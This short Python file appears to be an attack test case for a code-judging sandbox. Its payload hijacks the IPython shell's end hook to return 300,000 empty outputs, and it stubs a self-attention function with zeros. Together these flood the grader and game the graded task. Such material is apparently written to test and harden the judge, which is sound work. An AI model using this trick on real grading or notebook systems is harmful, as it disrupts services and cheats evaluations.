"""Claim hundreds of thousands of tiny outputs."""

from judge.attacks import SERVER

SOLUTION = (
    SERVER
    + """
shell = get_ipython()
real = shell.end

def end():
    shell.end = real
    return [{"output_type": "display_data", "data": {"text/plain": ""}, "metadata": {}}] * 300_000

shell.end = end

def self_attention(X, *parameters):
    return np.zeros_like(X)
"""
)
